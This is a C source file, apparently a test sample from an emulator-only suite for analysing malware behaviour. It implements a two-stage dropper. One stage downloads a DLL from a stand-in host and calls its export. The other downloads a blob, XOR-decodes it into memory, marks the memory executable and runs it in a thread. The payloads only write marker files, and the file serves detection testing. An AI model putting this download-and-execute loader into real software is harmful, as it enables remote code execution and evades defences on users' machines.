/*
 * dropper.c - generality suite: URLMon one-call downloads (benign, emulator-only; see
 * ../../lineage-common/common.h).
 *
 * 1. URLDownloadToFileA http://dl.example-updates.net/pkg/helper.dll -> %TEMP%\helper.dll,
 *    LoadLibraryA, call its export PluginRun (writes C:\Users\Public\lineage_plugin.txt).
 * 2. URLDownloadToCacheFileA https://dl.example-updates.net/pkg/blob.dat -> the INetCache path
 *    it returns, read back with CreateFileA/ReadFile, decoded with a rolling XOR
 *    (byte i ^ (0x3d + 7*i)) into new PAGE_READWRITE memory, made PAGE_EXECUTE_READ, run in a
 *    thread: the stage writes C:\Users\Public\lineage_urlmon.txt.
 * Exit codes: 0 ok, 1 no marker, 2 download, 3 load, 4 export, 5 cache file, 6 memory, 7 thread.
 */
#include "common.h"
#include <urlmon.h>

#define KEY0 0x3d
#define KEY_STEP 7

static unsigned char g_blob[0x4000];

void Entry(void)
{
    typedef DWORD (WINAPI *run_t)(void);
    static struct sc_ctx ctx;
    char path[MAX_PATH + 16], cached[MAX_PATH];
    DWORD n, got = 0, i, old;
    HMODULE mod;
    run_t run;
    HANDLE f, thread;
    unsigned char *mem;

    if (!marker_present())
        ExitProcess(1);
    n = GetTempPathA(MAX_PATH, path);
    if (n == 0 || n > MAX_PATH)
        ExitProcess(2);
    if (path[n - 1] != '\\')
        path[n++] = '\\';
    copy_str(path + n, "helper.dll", 16);
    if (URLDownloadToFileA(0, "http://dl.example-updates.net/pkg/helper.dll", path, 0, 0) != S_OK)
        ExitProcess(2);
    mod = LoadLibraryA(path);
    if (!mod)
        ExitProcess(3);
    run = (run_t)(void *)GetProcAddress(mod, "PluginRun");
    if (!run)
        ExitProcess(4);
    run();

    if (URLDownloadToCacheFileA(0, "https://dl.example-updates.net/pkg/blob.dat", cached, MAX_PATH, 0, 0) != S_OK)
        ExitProcess(2);
    f = CreateFileA(cached, GENERIC_READ, FILE_SHARE_READ, 0, OPEN_EXISTING, FILE_ATTRIBUTE_NORMAL, 0);
    if (f == INVALID_HANDLE_VALUE || !ReadFile(f, g_blob, sizeof(g_blob), &got, 0) || got == 0)
        ExitProcess(5);
    CloseHandle(f);
    mem = (unsigned char *)VirtualAlloc(0, got, MEM_COMMIT | MEM_RESERVE, PAGE_READWRITE);
    if (!mem)
        ExitProcess(6);
    for (i = 0; i < got; i++)
        mem[i] = g_blob[i] ^ (unsigned char)(KEY0 + i * KEY_STEP);
    if (!VirtualProtect(mem, got, PAGE_EXECUTE_READ, &old))
        ExitProcess(6);
    fill_ctx(&ctx, "C:\\Users\\Public\\lineage_urlmon.txt", "decoded from a cached download\n");
    thread = CreateThread(0, 0, (LPTHREAD_START_ROUTINE)(void *)mem, &ctx, 0, 0);
    if (!thread)
        ExitProcess(7);
    WaitForSingleObject(thread, INFINITE);
    ExitProcess(0);
}
